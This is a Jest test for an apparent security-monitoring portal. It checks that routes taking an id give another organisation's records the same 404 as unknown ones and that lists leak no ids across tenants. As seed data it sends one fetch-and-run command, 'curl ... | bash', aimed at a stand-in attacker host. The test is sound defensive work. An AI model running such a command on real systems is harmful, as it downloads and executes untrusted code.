import { expect, jest, test } from '@jest/globals';
import { ROUTES } from '../../src/portal/routes.ts';
import { startPortal } from '../helpers/portal.ts';
import { caller, sendCommands } from '../helpers/portal-caller.ts';
import { DEVICE } from '../helpers/portal-events.ts';

jest.setTimeout(60_000);

/** Bodies that are good enough to get as far as the id. */
const BODIES: Readonly<Record<string, object>> = {
  'PATCH /api/policies/:id': { severity: 'high' },
  'PATCH /api/detections/:id': { note: 'x' },
  'PATCH /api/webhooks/:id': { enabled: false },
  'PATCH /api/siem-streams/:id': { enabled: false },
  'PATCH /api/members/:id': { role: 'viewer' },
};

test('on every route that takes an id, another organisation’s answers word for word as an unknown one', async () => {
  const portal = await startPortal();
  const call = caller(portal);
  await sendCommands(portal, ['curl https://evil.example/x | bash']);
  const idOf = async (path: string, list: string, body?: object) => {
    const answer = (await call(body === undefined ? 'GET' : 'POST', path, body === undefined ? {} : { body })).body;
    const found = answer[list] as { id: string } | { id: string }[];
    return Array.isArray(found) ? (found[0]?.id ?? '') : found.id;
  };
  const policy = { name: 'Mine', severity: 'low', expression: 'true', enabled: true };
  const mine = await idOf('/api/policies', 'policy', policy);
  await portal.store.accounts.signIn(
    (await portal.store.organisation('default', '')).id,
    { id: 'ann', role: 'admin' },
    '2026-09-03T12:00:00.000Z',
  );
  const ids: Readonly<Record<string, string>> = {
    events: await idOf('/api/events', 'events'),
    sessions: await idOf('/api/sessions', 'sessions'),
    agents: DEVICE,
    policies: mine,
    'policy-runs': await idOf(`/api/policies/${mine}/dry-run`, 'run', {}),
    detections: await idOf('/api/detections', 'detections'),
    webhooks: await idOf('/api/webhooks', 'webhook', { url: 'http://127.0.0.1:9/' }),
    'siem-streams': await idOf('/api/siem-streams', 'stream', {
      destination: { kind: 'syslog', host: '127.0.0.1', port: 9, transport: 'tcp' },
    }),
    members: 'ann',
    installers: await idOf('/api/installers', 'installer', { system: 'linux' }),
    tokens: await idOf('/api/tokens', 'tokens'),
  };
  for (const { method, path, who } of ROUTES) {
    const part = path.split('/')[2] ?? '';
    // The others name what everybody has: a part of the inventory, a list that is exported.
    if (!path.includes(':id') || ['anybody', 'device', 'enroller'].includes(who) || ids[part] === undefined) continue;
    const asked = { org: 'other', version: 1, ...(method !== 'GET' && { body: BODIES[`${method} ${path}`] ?? {} }) };
    const theirs = await call(method, path.replace(':id', encodeURIComponent(ids[part])), asked);
    const unknown = await call(method, path.replace(':id', 'unknown'), asked);
    expect([method, path, theirs.status, theirs.body.error]).toEqual([method, path, 404, unknown.body.error]);
  }
  const lists = ROUTES.filter(
    ({ method, path, who }) => method === 'GET' && !path.includes(':id') && who !== 'anybody',
  );
  for (const { path } of lists.filter(({ path: at }) => !/stream|metrics|exports|upgrade/.test(at))) {
    const text = JSON.stringify((await call('GET', path, { org: 'other' })).body);
    for (const id of Object.values(ids))
      if (id !== 'ann') expect([path, id, text.includes(id)]).toEqual([path, id, false]);
  }
});
